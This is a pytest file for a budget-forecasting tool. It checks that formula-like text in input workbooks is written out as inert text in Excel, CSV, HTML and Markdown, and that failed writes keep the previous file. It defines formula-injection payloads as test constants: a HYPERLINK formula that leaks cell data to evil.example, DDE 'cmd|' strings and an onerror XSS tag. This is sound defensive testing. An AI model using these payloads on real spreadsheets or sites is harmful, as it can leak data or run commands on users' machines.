"""quality.md output safety: input text stays text everywhere, and no failure ever costs the previous output.

Formula-looking text (``=``, ``+``, ``-``, ``@``, tab or CR at the start,
``=HYPERLINK(...)``, ``+cmd|...``) typed into an input workbook's text cells
goes through ``build``, ``tables``, ``compare -o`` and ``batch`` and must come
out as text: never a formula, a link or a number in a workbook, and never a
cell a spreadsheet would evaluate in a CSV (OWASP's advice: a leading single
quote on such cells, every field in double quotes, quotes doubled).

Writing fails safely: lock files, a missing or read-only folder, a disk that
fills mid-write, a crash or Ctrl-C in the writer: exit 1 (or click's abort)
with one message, the old file byte-identical and no temporary file left.
"""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

import forecast.files as atomic
from factory import Sheets, minimal_sheets, write_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
CMD = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=2+2"
URL = "https://evil.example/phish"
TAG = "<img src=x onerror=alert(1)>"
SPLIT = "Legal;=3+3"  # OWASP: a separator then a formula, for a spreadsheet that splits on ';'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Text that only a formula (or a link) would carry: none of it may appear inside an <f> element.
PAYLOAD_MARKERS = ("cmd|", "HYPERLINK", "evil.example", "SUM(1+1)", "1+1", "2+2", "3+3", "onerror")


def hostile_sheets() -> Sheets:
    """The minimal input with formula-looking text in every text column of every sheet."""
    lines = {"Placements": HYPERLINK, "Social workers": CMD, "Other": AT}
    sheets = minimal_sheets()
    sheets["Settings"] += [
        {"setting": "service", "value": MINUS},
        {"setting": "report_title", "value": HYPERLINK},
        {"setting": "prepared_by", "value": AT},
    ]
    sheets["Settings"][0]["value"] = CMD  # authority
    for row, comment in zip(sheets["Budget"], (TAB, CR, URL), strict=True):
        row.update(line=lines[row["line"]], group=MINUS, comment=comment)
    sheets["Budget"].append({"line": SPLIT, "budget": 10, "forecast": 12, "comment": TAG})
    for sheet in ("Placements", "Staffing"):
        for row in sheets[sheet]:
            row["line"] = lines[row["line"]]
    sheets["Placements"][0]["placement_type"] = "=1+1"  # an unusual type is kept as written (a warning)
    for sheet in ("Staffing", "Recruitment"):
        sheets[sheet][0].update(team=CMD, role=AT)
    sheets["Investments"][0].update(name=HYPERLINK, line=lines["Other"])
    sheets["Savings"][0].update(name=CMD, line=TAG if False else lines["Other"])
    sheets["Scenarios"][0]["scenario"] = "=HYPERLINK(\"http://evil.example\")"
    return sheets


def write_text_exactly(path: Path, sheets: Sheets) -> Path:
    """Like factory.write_workbook, but every str is a text cell (the factory turns '=...' into a formula)."""
    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False,
                                           "strings_to_numbers": False})
    date = book.add_format({"num_format": "yyyy-mm-dd"})
    for name, rows in sheets.items():
        sheet = book.add_worksheet(name)
        headers = list(dict.fromkeys(h for row in rows for h in row))
        sheet.write_row(0, 0, headers)
        for i, row in enumerate(rows, start=1):
            for j, header in enumerate(headers):
                value = row.get(header)
                if isinstance(value, str):
                    assert sheet.write_string(i, j, value) == 0
                elif isinstance(value, dt.date):
                    sheet.write_datetime(i, j, dt.datetime(value.year, value.month, value.day), date)
                elif value is not None:
                    sheet.write_number(i, j, value)
    book.close()
    return path


@pytest.fixture
def hostile_input(tmp_path: Path) -> Path:
    return write_text_exactly(tmp_path / "hostile.xlsx", hostile_sheets())


def _strip(text: str) -> str:
    return text.strip()  # the reader strips surrounding blanks (so a leading tab or CR goes)


def assert_text_only(path: Path, expected: tuple[str, ...]) -> None:
    """No formula carries a payload, no cell is a link, and each expected text is a text cell."""
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        sheets = {n: archive.read(n).decode("utf-8") for n in names if n.startswith("xl/worksheets/sheet")}
        rels = b"".join(archive.read(n) for n in names if n.endswith(".rels"))
    assert b"/hyperlink" not in rels
    for name, xml in sheets.items():
        # the only links are the Contents sheet's, each to a sheet of the workbook itself (no relationship)
        for link in re.findall(r"<hyperlink [^>]*>", xml):
            assert "r:id" not in link and re.search(r'location="[^"]+!A1"', link), (name, link)
        for formula in re.findall(r"<f>(.*?)</f>", xml):
            assert not any(marker in formula for marker in PAYLOAD_MARKERS), (name, formula)
    book = openpyxl.load_workbook(path)
    texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}
    formulas = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    for text in expected:
        assert any(text in t for t in texts), (text, path.name)
        assert not any(text in str(f) for f in formulas), (text, path.name)


def test_build_writes_formula_looking_input_text_as_text(hostile_input: Path, tmp_path: Path, run_cli) -> None:
    out = tmp_path / "out.xlsx"
    result = run_cli("build", hostile_input, "-o", out, "--all-scenarios")
    assert result.exit_code == 0, result.output
    assert_text_only(out, (HYPERLINK, CMD, MINUS, AT, _strip(TAB), _strip(CR), URL, TAG, SPLIT, "=1+1"))
    names = openpyxl.load_workbook(out).sheetnames
    assert "Scenarios" in names and "Savings" in names and "Investments" in names


@pytest.mark.slow
def test_tables_never_write_a_cell_a_spreadsheet_would_evaluate(hostile_input: Path, tmp_path: Path, run_cli) -> None:
    folder = tmp_path / "tables"
    result = run_cli("tables", hostile_input, "-o", folder)
    assert result.exit_code == 0, result.output
    found: set[str] = set()
    for path in sorted(folder.glob("*.csv")):
        raw = path.read_text(encoding="utf-8")
        for line in raw.splitlines():
            assert line.startswith('"') and line.endswith('"'), (path.name, line)  # every field quoted
        for row in csv.reader(io.StringIO(raw)):
            for cell in row:
                # "-" alone is how a zero figure is shown: text, not a formula
                assert cell == "-" or not cell.startswith(FORMULA_START), (path.name, cell)
                found.add(cell)
    for text in (HYPERLINK, CMD, AT):  # line names: the first cell of their rows
        assert "'" + text in found, text
    assert any(MINUS in cell for cell in found)  # the group, inside "Total -2+3..."
    assert SPLIT in found  # one field: the ';' cannot start a new cell inside double quotes
    html = (folder / "tables.html").read_text(encoding="utf-8")
    assert TAG not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    markdown = (folder / "tables.md").read_text(encoding="utf-8")
    assert TAG not in markdown and "\\<img src=x onerror=alert(1)\\>" in markdown  # a viewer shows it, never runs it
    import docx

    words = [c.text for t in docx.Document(str(folder / "tables.docx")).tables for r in t.rows for c in r.cells]
    assert HYPERLINK in words and CMD in words


@pytest.mark.slow
def test_calc_opening_tables_html_finds_no_formula_and_figures_as_numbers(
    hostile_input: Path, tmp_path: Path, run_cli
) -> None:
    """LibreOffice Calc's HTML import (what opening tables.html in Calc uses) finds no formula; figures are numbers."""
    from reader_tools import need, soffice_convert

    soffice = need("soffice")
    assert run_cli("tables", hostile_input, "--format", "html", "-o", tmp_path / "t").exit_code == 0
    blackpool = Path(__file__).resolve().parents[2] / "inputs" / "blackpool-2019-20-m4.xlsx"
    assert run_cli("tables", blackpool, "--format", "html", "-o", tmp_path / "bp").exit_code == 0
    (tmp_path / "hostile.html").write_bytes((tmp_path / "t" / "tables.html").read_bytes())
    (tmp_path / "blackpool.html").write_bytes((tmp_path / "bp" / "tables.html").read_bytes())
    out = tmp_path / "calc"
    files = [tmp_path / "hostile.html", tmp_path / "blackpool.html"]
    soffice_convert(soffice, files, out, "xlsx", infilter="calc_HTML_WebQuery")
    texts: list[str] = []
    for name in ("hostile", "blackpool"):
        book = openpyxl.load_workbook(out / f"{name}.xlsx")
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name}: a live formula at {sheet.title}!{cell.coordinate}: {cell.value}"
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
    assert any(t.startswith("'=HYPERLINK(") for t in texts)  # the guard is visible: the text as typed, after '
    # Blackpool's figures arrive as numbers, brackets and all: the total's net variance and Legal's (42)
    values = [c.value for s in openpyxl.load_workbook(out / "blackpool.xlsx").worksheets for r in s.iter_rows() for c in r]
    assert 8989 in values and -42 in values and "(42)" not in values


def test_html_and_csv_guard_formula_text_but_never_figures() -> None:
    from forecast.report.rows import Table, TableRow
    from forecast.report.tables import formula_guard, html_text

    for text in ("=SUM(1)", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "  =1+1", "\u00a0=1"):
        assert formula_guard(text) == "'" + text
    assert formula_guard("Legal") == "Legal" and formula_guard("Total -2") == "Total -2"
    table = Table("t", "=T", ("Line", "Comment", "Amount"), (TableRow("=HYPERLINK(1)", ("+cmd", -1234.4)),),
                  ("text", "text", "money"))
    page = html_text([table], "@title", "-story")
    assert ">&#x27;=HYPERLINK(1)</th>" in page and ">&#x27;+cmd</td>" in page
    assert ">&#x27;@title</h1>" in page and "<p>&#x27;-story</p>" in page
    assert 'sdval="-1234"' in page and ">(1,234)</td>" in page  # a figure is shown as one, unguarded


def test_markdown_shows_input_text_literally() -> None:
    import html

    from markdown_it import MarkdownIt

    from forecast.report.rows import Table, TableRow
    from forecast.report.tables import markdown

    hostile = "[l](javascript:alert(1)) **bold** _it_ `code` <b>x</b> &amp; ~~gone~~ ![i](x.png) a|b \\ end"
    table = Table("t", "T", ("Line", "Comment", "Amount"), (TableRow(hostile, (hostile, 5.0)),), ("text", "text", "money"))
    rendered = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown([table], hostile, hostile))
    for tag in ("<a ", "<em>", "<strong>", "<code>", "<b>", "<img", "<s>", "<del>"):
        assert tag not in rendered, tag
    # each place shows the text as typed (HTML-escaped by the renderer): title, narrative, label and comment
    shown = "[l](javascript:alert(1)) **bold** _it_ `code` &lt;b&gt;x&lt;/b&gt; &amp;amp; ~~gone~~ ![i](x.png) a|b \\ end"
    assert rendered.count(shown) == 4, rendered
    # text that starts like a block: a list item, a numbered item, a quote, a rule or a heading underline
    for start in ("- item", "+ item", "* item", "1. one", "2) two", "> quote", "---", "===", "    code", "# h"):
        table = Table("t", "T", ("Line", "Amount"), (TableRow(start, (5.0,)),), ("text", "money"))
        rendered = MarkdownIt("commonmark").enable("table").render(markdown([table], start, start))
        for tag in ("<li>", "<ol", "<ul>", "<blockquote>", "<hr", "<pre>", "<code>"):
            assert tag not in rendered, (start, tag, rendered)
        assert rendered.count("<h1>") == rendered.count("<h2>") == 1, rendered  # our title and the table's
        shown = html.escape(start.strip(), quote=False)
        assert rendered.count(shown) == 3, (start, rendered)  # title, narrative, row name: as typed


def test_compare_workbook_writes_input_text_as_text(hostile_input: Path, tmp_path: Path, run_cli) -> None:
    good = write_workbook(tmp_path / "good.xlsx", minimal_sheets())
    out = tmp_path / "compare.xlsx"
    result = run_cli("compare", good, hostile_input, "-o", out)
    assert result.exit_code == 0, result.output
    assert_text_only(out, (HYPERLINK, CMD, AT, SPLIT))


def test_batch_summary_writes_input_text_as_text(hostile_input: Path, tmp_path: Path, run_cli) -> None:
    folder = tmp_path / "batch"
    result = run_cli("batch", hostile_input, "-o", folder, "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert_text_only(folder / "batch-summary.xlsx", (CMD,))
    assert_text_only(folder / "hostile-forecast.xlsx", (HYPERLINK, CMD, AT))


def test_every_workbook_is_written_with_strings_to_formulas_and_urls_off(
    hostile_input: Path, tmp_path: Path, run_cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[dict] = []
    original = xlsxwriter.workbook.Workbook.__init__

    def record(self, filename=None, options=None):  # noqa: ANN001 - XlsxWriter's own signature
        seen.append(dict(options or {}))
        original(self, filename, options)

    monkeypatch.setattr(xlsxwriter.workbook.Workbook, "__init__", record)
    good = write_workbook(tmp_path / "good.xlsx", minimal_sheets())
    seen.clear()
    for args in (
        ("build", hostile_input, "-o", tmp_path / "b.xlsx"),
        ("compare", good, hostile_input, "-o", tmp_path / "c.xlsx"),
        ("batch", hostile_input, "-o", tmp_path / "batch", "--jobs", "1"),
    ):
        assert run_cli(*args).exit_code == 0
    assert len(seen) >= 3
    for options in seen:
        assert options.get("strings_to_formulas") is False, options
        assert options.get("strings_to_urls") is False, options


@pytest.mark.parametrize(
    "method", ["write_string", "write_number", "write_formula", "write_datetime", "write_blank"]
)
def test_a_refused_cell_write_stops_the_build_and_keeps_the_old_file(
    method: str, tmp_path: Path, run_cli, monkeypatch: pytest.MonkeyPatch, good_output: bytes
) -> None:
    """Every cell write's return code is checked: XlsxWriter refusing one (-1) is an error naming the cell."""
    good = write_workbook(tmp_path / "good.xlsx", minimal_sheets())
    out = tmp_path / "out.xlsx"
    out.write_bytes(good_output)  # what a successful build of `good` wrote (the module builds it once)
    before = out.read_bytes()
    monkeypatch.setattr(xlsxwriter.worksheet.Worksheet, method, lambda self, *args, **kwargs: -1)
    result = run_cli("build", good, "-o", out)
    assert result.exit_code == 1, result.output
    assert re.search(r"cannot write [\w ]+![A-Z]+\d+: outside the worksheet", result.output), result.output
    assert "Traceback" not in result.output
    assert out.read_bytes() == before
    assert _leftovers(tmp_path) == []


# -- writing fails safely ----------------------------------------------------------------------


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


@pytest.fixture(scope="module")
def good_output(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The bytes of a successful build of the minimal good input, built once for the module's tests."""
    from click.testing import CliRunner

    from forecast.cli import cli

    folder = tmp_path_factory.mktemp("good-output")
    good = write_workbook(folder / "good.xlsx", minimal_sheets())
    out = folder / "out.xlsx"
    result = CliRunner().invoke(cli, ["build", str(good), "-o", str(out)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return out.read_bytes()


@pytest.fixture
def built(tmp_path: Path, good_output: bytes) -> tuple[Path, Path, bytes]:
    """(good input, out.xlsx as a successful build of it wrote it, its bytes): a copy of the module's one build."""
    good = write_workbook(tmp_path / "good.xlsx", minimal_sheets())
    out = tmp_path / "out" / "budget-monitoring.xlsx"
    out.parent.mkdir()
    out.write_bytes(good_output)
    return good, out, good_output


def _fails_safely(result, out: Path, before: bytes, *expected: str) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    for text in expected:
        assert text in result.output, result.output
    assert out.read_bytes() == before
    assert _leftovers(out.parent) == []


class _FillsUp:
    """A file that takes ``room`` bytes, then raises ENOSPC like a full disk (everything else passes through)."""

    def __init__(self, real: io.BufferedWriter, room: int) -> None:
        self._real, self._room = real, room

    def write(self, data: bytes) -> int:
        if len(data) > self._room:
            self._real.write(bytes(data)[: self._room])
            self._room = 0
            raise OSError(errno.ENOSPC, "No space left on device")
        self._room -= len(data)
        return self._real.write(data)

    def __getattr__(self, name: str):  # noqa: ANN204
        return getattr(self._real, name)

    def __enter__(self):  # noqa: ANN204
        return self

    def __exit__(self, *exc: object) -> None:
        self._real.close()


def test_disk_full_part_way_through_the_write_keeps_the_old_file(built, run_cli, monkeypatch) -> None:
    good, out, before = built
    real_fdopen = os.fdopen
    monkeypatch.setattr(atomic.os, "fdopen", lambda fd, mode: _FillsUp(real_fdopen(fd, mode), room=4096))
    result = run_cli("build", good, "-o", out)
    _fails_safely(result, out, before, f"{out}: could not write (the disk is full); any earlier file is unchanged")


@pytest.mark.parametrize(
    ("error", "message"),
    [
        (OSError(errno.ENOSPC, "No space left on device"), "could not write (the disk is full)"),
        # the folder looks writable but the system says no when the file is created (network share, ACLs)
        (PermissionError(errno.EACCES, "Permission denied"), "could not write (permission denied)"),
    ],
    ids=["disk-full", "permission-denied"],
)
def test_the_system_refusing_the_temporary_file_keeps_the_old_file(
    built, run_cli, monkeypatch, error: OSError, message: str
) -> None:
    good, out, before = built

    def refuse(*args: object, **kwargs: object):  # noqa: ANN202
        raise error

    monkeypatch.setattr(atomic.tempfile, "mkstemp", refuse)
    _fails_safely(run_cli("build", good, "-o", out), out, before, message)


def test_a_crash_in_a_sheet_writer_keeps_the_old_file(built, run_cli, monkeypatch) -> None:
    from forecast.report.sheets import mtfp

    good, out, before = built

    def crash(ctx: object) -> None:
        raise RuntimeError("writer bug")

    monkeypatch.setattr(mtfp, "write", crash)
    result = run_cli("build", good, "-o", out)
    _fails_safely(result, out, before, "unexpected error (RuntimeError: writer bug)", "run it again as 'forecast --debug build ...'")


def test_ctrl_c_mid_write_keeps_the_old_file(built, run_cli, monkeypatch) -> None:
    from forecast.report.sheets import mtfp

    good, out, before = built

    def interrupted(ctx: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(mtfp, "write", interrupted)
    result = run_cli("build", good, "-o", out)
    assert "Aborted" in result.output
    _fails_safely(result, out, before)


def test_a_failed_rename_keeps_the_old_file(built, run_cli, monkeypatch) -> None:
    good, out, before = built

    def refused(*args: object) -> None:
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(atomic.os, "replace", refused)
    _fails_safely(run_cli("build", good, "-o", out), out, before, "could not write (permission denied)")


@pytest.mark.parametrize(
    ("lock", "app"),
    [
        ("~$budget-monitoring.xlsx", "Excel"),
        ("~$dget-monitoring.xlsx", "Excel"),  # Excel drops the first two letters of a long name
        (".~lock.budget-monitoring.xlsx#", "LibreOffice"),
    ],
)
def test_an_output_open_in_excel_or_libreoffice_is_left_alone(built, run_cli, lock: str, app: str) -> None:
    good, out, before = built
    (out.parent / lock).write_bytes(b"")
    for args in (("build", good, "-o", out), ("compare", good, good, "-o", out)):
        _fails_safely(run_cli(*args), out, before, f"is open in {app} (lock file {lock} beside it)", "close it")


def test_a_missing_output_folder_is_named_with_the_fix(tmp_path: Path, run_cli) -> None:
    good = write_workbook(tmp_path / "good.xlsx", minimal_sheets())
    missing = tmp_path / "no-such-folder"
    for args in (
        ("build", good, "-o", missing / "out.xlsx"),
        ("compare", good, good, "-o", missing / "out.xlsx"),
        ("tables", good, "-o", missing / "tables"),
    ):
        result = run_cli(*args)
        assert result.exit_code == 1, result.output
        assert f"the folder {missing} does not exist; create it or choose another -o" in result.output
        assert "Traceback" not in result.output
    assert not missing.exists()


def test_an_output_folder_that_is_a_file_is_named(built, run_cli) -> None:
    good, out, before = built
    result = run_cli("build", good, "-o", out / "inside.xlsx")
    assert result.exit_code == 1
    assert f"{out} is not a folder" in result.output
    assert out.read_bytes() == before


def test_a_read_only_output_folder_is_named_with_the_fix(built, run_cli, monkeypatch) -> None:
    """Simulated: tests may run as root, whom chmod does not stop (the real chmod case is below)."""
    good, out, before = built
    real_access = os.access
    monkeypatch.setattr(atomic.os, "access", lambda p, mode: False if Path(p) == out.parent else real_access(p, mode))
    result = run_cli("build", good, "-o", out)
    _fails_safely(result, out, before, f"the folder {out.parent} is not writable; choose another -o path")


def test_a_read_only_output_file_is_left_alone(built, run_cli, monkeypatch) -> None:
    good, out, before = built
    real_access = os.access
    monkeypatch.setattr(
        atomic.os, "access", lambda p, mode: not mode & os.W_OK and real_access(p, mode) if Path(p) == out
        else real_access(p, mode)
    )
    result = run_cli("build", good, "-o", out)
    _fails_safely(result, out, before, "the file is read-only; make it writable or choose another -o path")


@pytest.mark.skipif(os.geteuid() == 0, reason="running as root: chmod does not stop root writing, "
                    "so the read-only folder is simulated in the two tests above")
def test_a_really_read_only_folder(built, run_cli) -> None:
    good, out, before = built
    out.parent.chmod(0o500)
    try:
        result = run_cli("build", good, "-o", out)
    finally:
        out.parent.chmod(0o700)
    _fails_safely(result, out, before, "is not writable")


@pytest.mark.slow  # forecast in another process, three times
@pytest.mark.parametrize("command", ["build", "compare", "summary"])
def test_a_reader_that_stops_early_loses_nothing_and_is_no_bug(tmp_path: Path, command: str) -> None:
    """`forecast compare a b -o x.xlsx | head -3`: the pipe closes before forecast has printed everything.

    The output file is written before anything is printed, and the closed pipe
    ends forecast quietly with exit 1 (as click does), not as 'a bug in forecast'.
    """
    import subprocess
    import sys

    example = Path(__file__).resolve().parents[2] / "inputs" / "blackpool-2019-20-m4.xlsx"
    out = tmp_path / "out.xlsx"
    args = {
        "build": ["build", str(example), "-o", str(out)],
        "compare": ["compare", str(example), str(example), "-o", str(out)],
        "summary": ["summary", str(example)],
    }[command]
    process = subprocess.Popen(
        [sys.executable, "-m", "forecast", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert process.stdout is not None and process.stderr is not None
    process.stdout.close()  # the reader is gone before forecast (still importing) writes a byte
    stderr = process.stderr.read().decode()
    assert process.wait(timeout=60) == 1
    assert "bug" not in stderr and "Traceback" not in stderr, stderr
    if command != "summary":
        assert zipfile.ZipFile(out).testzip() is None


def test_an_output_path_that_is_the_input_is_refused_and_the_input_kept(tmp_path: Path, run_cli) -> None:
    """`forecast build inputs.xlsx -o inputs.xlsx` once replaced the inputs with the report."""
    good = write_workbook(tmp_path / "inputs.xlsx", minimal_sheets())
    before = good.read_bytes()
    for args in (
        ("build", good, "-o", good),
        ("build", good, "-o", tmp_path / "." / "inputs.xlsx"),
        ("compare", good, good, "-o", good),
    ):
        result = run_cli(*args)
        assert result.exit_code == 1, result.output
        assert "is an input file of this command" in result.output and "choose another -o path" in result.output
        assert good.read_bytes() == before


@pytest.mark.parametrize("name", ["report.xls", "report", "report.csv"])
def test_a_workbook_output_must_be_named_xlsx(tmp_path: Path, run_cli, name: str) -> None:
    good = write_workbook(tmp_path / "inputs.xlsx", minimal_sheets())
    for command in (("build", good), ("compare", good, good)):
        result = run_cli(*command, "-o", tmp_path / name)
        assert result.exit_code == 1, result.output
        assert "use a name ending in .xlsx, e.g. -o " in result.output and "report.xlsx" in result.output
        assert not (tmp_path / name).exists()


def test_batch_never_writes_over_an_input_in_its_output_folder(tmp_path: Path, run_cli) -> None:
    """Inputs a.xlsx and a-forecast.xlsx in the output folder: a's workbook gets another name."""
    a = write_workbook(tmp_path / "a.xlsx", minimal_sheets())
    a_forecast = write_workbook(tmp_path / "a-forecast.xlsx", minimal_sheets())
    before = a_forecast.read_bytes()
    result = run_cli("batch", a, a_forecast, "-o", tmp_path, "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert a_forecast.read_bytes() == before
    assert (tmp_path / "a-2-forecast.xlsx").exists() and (tmp_path / "a-forecast-forecast.xlsx").exists()
    summary = write_workbook(tmp_path / "batch-summary.xlsx", minimal_sheets())
    kept = summary.read_bytes()
    result = run_cli("batch", summary, "-o", tmp_path)
    assert result.exit_code == 1 and "is an input file of this command" in result.output
    assert summary.read_bytes() == kept


@pytest.mark.slow
def test_a_very_long_authority_name_is_cut_where_excel_and_word_have_limits(
    tmp_path: Path, run_cli, recwarn: pytest.WarningsRecorder
) -> None:
    """Page headers and Word's title hold 255 characters: a longer name once crashed `tables` and lost headers."""
    from forecast.report.grid import _header_text, clip

    sheets = minimal_sheets()
    long_name = "Royal Borough of " + "Windsor & Maidenhead " * 15  # 332 characters, '&' doubled in headers
    next(r for r in sheets["Settings"] if r["setting"] == "authority")["value"] = long_name
    good = write_workbook(tmp_path / "inputs.xlsx", sheets)
    out = tmp_path / "out.xlsx"
    assert run_cli("build", good, "-o", out, "--all-scenarios").exit_code == 0
    result = run_cli("tables", good, "-o", tmp_path / "tables")
    assert result.exit_code == 0, result.output
    assert not [w for w in recwarn if "255" in str(w.message)]  # XlsxWriter warns, and drops, a longer header
    with zipfile.ZipFile(out) as book:
        headers = [m for name in book.namelist() if name.startswith("xl/worksheets/sheet")
                   for m in re.findall(r"<oddHeader>(.*?)</oddHeader>", book.read(name).decode())]
    assert headers and all(len(h.replace("&amp;", "&")) <= 255 for h in headers)
    assert all("…" in h for h in headers)  # cut, and visibly so
    import docx

    title = docx.Document(str(tmp_path / "tables" / "tables.docx")).core_properties.title
    assert len(title) == 255 and title.endswith("…") and title.startswith("Royal Borough of Windsor")
    # an '&&' pair is never split into a lone '&' (Excel would read a control code)
    assert _header_text("a" * 9 + "&b", 11) == "a" * 9 + "…"
    assert clip("short", 255) == "short"
